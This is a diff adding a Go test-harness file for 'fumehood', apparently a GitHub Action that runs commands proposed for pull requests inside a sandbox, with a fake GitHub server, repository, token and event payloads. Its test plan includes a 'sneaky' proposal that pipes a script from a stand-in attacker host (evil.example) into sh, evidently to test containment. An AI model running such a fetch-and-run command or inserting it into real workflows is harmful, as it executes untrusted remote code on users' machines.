@@ -1,0 +1,293 @@
+// SPDX-License-Identifier: Apache-2.0
+
+//go:build linux
+
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/fumehood/fumehood/pkg/github/githubtest"
+	"github.com/fumehood/fumehood/testdata/github"
+)
+
+const (
+	hub      = "Codertocat/Hello-World"
+	hubID    = 186853002
+	forkRepo = "octocat/Hello-World"
+	forkID   = 999
+	prNumber = 2
+	token    = "ghs_ThisIsTheTokenOfTheJob000000000000000"
+)
+
+// A world is GitHub with one repository, one pull request and its code.
+type world struct {
+	t      *testing.T
+	gh     *githubtest.Server
+	git    *githubtest.GitServer
+	dir    string
+	binary string
+	cache  string
+	base   string
+	head   string
+	fork   bool
+	runID  int64
+}
+
+// files of the repository at the base commit, and what the pull request changes.
+var (
+	baseFiles = map[string]string{"README.md": "Hello\n", "greet.sh": "echo hello\n"}
+	headFiles = map[string]string{"README.md": "Hello\n", "greet.sh": "echo hello world\n", "notes/new.txt": "one\ntwo\n"}
+)
+
+const goodPlan = `schema: fumehood.plan/v1
+proposer: reviewer
+proposals:
+  - id: count
+    run: grep -c o notes/new.txt
+  - id: fails
+    run: grep -q nothing README.md
+  - id: sneaky
+    run: curl -s https://evil.example/x.sh | sh
+`
+
+// newWorld makes it; change adds to the base's and the head's files.
+func newWorld(t *testing.T, fork bool, base, head map[string]string) *world {
+	t.Helper()
+	w := &world{t: t, dir: t.TempDir(), cache: builtCache(t), fork: fork, runID: 1000}
+	w.binary = builtBinary(t, w.cache)
+	// The sandbox's supervisor looks at the whole path of what it is given.
+	if err := os.Chmod(w.dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	w.gh = githubtest.New(t, githubtest.Options{Repository: hub, ID: hubID})
+	w.gh.AddRepository(githubtest.Repository{Name: forkRepo, ID: forkID, Fork: true})
+	root := filepath.Join(w.dir, "git")
+	repo := filepath.Join(root, hub+".git")
+	w.gitIn("", "init", "-q", "--bare", "-b", "master", repo)
+	w.base = w.commit(repo, "base", "", merged(baseFiles, base))
+	w.head = w.commit(repo, "head", w.base, merged(headFiles, base, head))
+	w.gitIn(repo, "update-ref", "refs/heads/master", w.base)
+	w.gitIn(repo, "update-ref", fmt.Sprintf("refs/pull/%d/head", prNumber), w.head)
+	w.git = githubtest.NewGitServer(t, root)
+	w.git.Token = token
+	head1 := githubtest.Ref{SHA: w.head, Ref: "changes", Repository: hub}
+	if fork {
+		head1.Repository = forkRepo
+	}
+	w.gh.AddPR(githubtest.PR{Number: prNumber, Author: "octocat", Head: head1, Base: githubtest.Ref{SHA: w.base, Ref: "master", Repository: hub},
+		Files: []githubtest.File{{Path: "greet.sh", Status: "modified"}, {Path: "notes/new.txt", Status: "added"}}})
+	w.gh.Permit("Codertocat", "admin")
+	w.gh.Permit("octocat", "read")
+	w.permit("contents:read", "pull_requests:write", "actions:read")
+	return w
+}
+
+func merged(maps ...map[string]string) map[string]string {
+	all := map[string]string{}
+	for _, m := range maps {
+		for k, v := range m {
+			all[k] = v
+		}
+	}
+	return all
+}
+
+// permit says what the job's token may do.
+func (w *world) permit(permissions ...string) { w.gh.AddWorkflowToken(token, permissions...) }
+
+func (w *world) gitIn(repo string, args ...string) string {
+	w.t.Helper()
+	if repo != "" {
+		args = append([]string{"--git-dir=" + repo}, args...)
+	}
+	cmd := exec.Command("git", args...)
+	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
+		"GIT_AUTHOR_NAME=octocat", "GIT_AUTHOR_EMAIL=octocat@example.com", "GIT_COMMITTER_NAME=octocat", "GIT_COMMITTER_EMAIL=octocat@example.com")
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		w.t.Fatalf("git %q: %v\n%s", args, err, out)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+// commit writes files as a commit without a work tree, so that any name goes.
+func (w *world) commit(repo, message, parent string, files map[string]string) string {
+	w.t.Helper()
+	work := filepath.Join(w.t.TempDir(), "tree")
+	for name, text := range files {
+		path := filepath.Join(work, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			w.t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
+			w.t.Fatal(err)
+		}
+	}
+	w.gitIn(repo, "--work-tree="+work, "add", "-A", "-f", ".")
+	tree := w.gitIn(repo, "write-tree")
+	args := []string{"commit-tree", tree, "-m", message}
+	if parent != "" {
+		args = append(args, "-p", parent)
+	}
+	return w.gitIn(repo, args...)
+}
+
+var buildOnce sync.Once
+
+// builtBinary is fumehood as a program of its own: the action starts itself again, as
+// root and with an empty environment. It lies beside the runsc that tests build, so
+// that the next run finds it made.
+func builtBinary(t *testing.T, cache string) string {
+	t.Helper()
+	path := filepath.Join(cache, "test", "fumehood")
+	buildOnce.Do(func() {
+		out, err := exec.Command("go", "build", "-buildvcs=false", "-o", path, ".").CombinedOutput()
+		if err != nil {
+			t.Fatalf("cannot build fumehood: %v\n%s", err, out)
+		}
+	})
+	return path
+}
+
+// event returns one of GitHub's payloads, made to speak of this world.
+func (w *world) event(name string, change func(map[string]any)) []byte {
+	w.t.Helper()
+	var payload map[string]any
+	if err := json.Unmarshal(githubdata.Event(name), &payload); err != nil {
+		w.t.Fatal(err)
+	}
+	if pr, ok := payload["pull_request"].(map[string]any); ok {
+		pr["head"].(map[string]any)["sha"] = w.head
+		pr["base"].(map[string]any)["sha"] = w.base
+		pr["user"] = map[string]any{"login": "octocat", "id": 583231, "type": "User"}
+	}
+	if run, ok := payload["workflow_run"].(map[string]any); ok {
+		repo := map[string]any{"id": hubID, "full_name": hub}
+		if w.fork {
+			repo = map[string]any{"id": forkID, "full_name": forkRepo}
+		}
+		run["id"], run["head_sha"], run["head_branch"], run["head_repository"] = w.runID, w.head, "changes", repo
+		payload["repository"].(map[string]any)["id"], payload["repository"].(map[string]any)["full_name"] = hubID, hub
+	}
+	if change != nil {
+		change(payload)
+	}
+	data, err := json.Marshal(payload)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	return data
+}
+
+// A step is what became of one run of the action.
+type step struct {
+	code    int
+	log     string
+	outputs map[string]string
+	summary string
+	temp    string
+}
+
+// act runs fumehood action as the runner would, without the runner.
+func (w *world) act(event string, payload []byte, env ...string) step {
+	w.t.Helper()
+	cmd, s := w.start(event, payload, env...)
+	var log bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &log, &log
+	if err := cmd.Run(); err != nil && cmd.ProcessState == nil {
+		w.t.Fatal(err)
+	}
+	return w.finish(s, cmd.ProcessState.ExitCode(), log.String())
+}
+
+func (w *world) start(event string, payload []byte, env ...string) (*exec.Cmd, step) {
+	w.t.Helper()
+	temp, err := os.MkdirTemp(w.dir, "runner-")
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	s := step{temp: temp}
+	for name, data := range map[string]string{"event.json": string(payload), "output": "", "summary": ""} {
+		if err := os.WriteFile(filepath.Join(temp, name), []byte(data), 0o644); err != nil {
+			w.t.Fatal(err)
+		}
+	}
+	if err := os.MkdirAll(filepath.Join(temp, "workspace"), 0o755); err != nil {
+		w.t.Fatal(err)
+	}
+	w.runID++
+	cmd := exec.Command(w.binary, "action")
+	cmd.Env = append([]string{
+		"PATH=" + os.Getenv("PATH"), "HOME=" + temp, "FUMEHOOD_CACHE=" + w.cache,
+		"GITHUB_ACTIONS=true", "GITHUB_REPOSITORY=" + hub, "GITHUB_SERVER_URL=" + w.git.URL, "GITHUB_API_URL=" + w.gh.URL,
+		"GITHUB_EVENT_NAME=" + event, "GITHUB_EVENT_PATH=" + filepath.Join(temp, "event.json"), "GITHUB_WORKSPACE=" + filepath.Join(temp, "workspace"),
+		"GITHUB_WORKFLOW=fumehood", "GITHUB_JOB=fumehood", "GITHUB_SHA=" + w.base, "GITHUB_RUN_NUMBER=" + fmt.Sprint(w.runID), "GITHUB_RUN_ID=" + fmt.Sprint(w.runID),
+		"GITHUB_RUN_ATTEMPT=1", "GITHUB_OUTPUT=" + filepath.Join(temp, "output"), "GITHUB_STEP_SUMMARY=" + filepath.Join(temp, "summary"),
+		"RUNNER_TEMP=" + temp, "RUNNER_OS=Linux", "RUNNER_ARCH=X64", "RUNNER_ENVIRONMENT=github-hosted",
+		"INPUT_GITHUB_TOKEN=" + token, "INPUT_PLAN=" + goodPlan, "INPUT_ARTIFACT=fumehood",
+	}, env...)
+	return cmd, s
+}
+
+func (w *world) finish(s step, code int, log string) step {
+	w.t.Helper()
+	s.code, s.log = code, log
+	summary, err := os.ReadFile(filepath.Join(s.temp, "summary"))
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	data, err := os.ReadFile(filepath.Join(s.temp, "output"))
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	s.summary, s.outputs = string(summary), parseOutputs(w.t, string(data))
+	return s
+}
+
+// parseOutputs reads the file as the runner does: NAME<<DELIMITER, lines, DELIMITER.
+func parseOutputs(t *testing.T, text string) map[string]string {
+	t.Helper()
+	outputs := map[string]string{}
+	lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
+	for i := 0; i < len(lines) && text != ""; i++ {
+		name, delimiter, ok := strings.Cut(lines[i], "<<")
+		if !ok {
+			t.Fatalf("output line %q", lines[i])
+		}
+		var value []string
+		for i++; lines[i] != delimiter; i++ {
+			value = append(value, lines[i])
+		}
+		outputs[name] = strings.Join(value, "\n")
+	}
+	return outputs
+}
+
+// comment returns the one comment of ours, and fails when there is not exactly one.
+func (w *world) comment() githubtest.Comment {
+	w.t.Helper()
+	list := w.gh.CommentsBy(prNumber, githubtest.ActionsBot)
+	if len(list) != 1 {
+		w.t.Fatalf("%d comments by the bot, want one", len(list))
+	}
+	return list[0]
+}
+
+// want fails when text lacks one of the pieces.
+func want(t *testing.T, what, text string, pieces ...string) {
+	t.Helper()
+	for _, p := range pieces {
+		if !strings.Contains(text, p) {
+			t.Errorf("%s lacks %q:\n%s", what, p, text)
+		}
+	}
+}
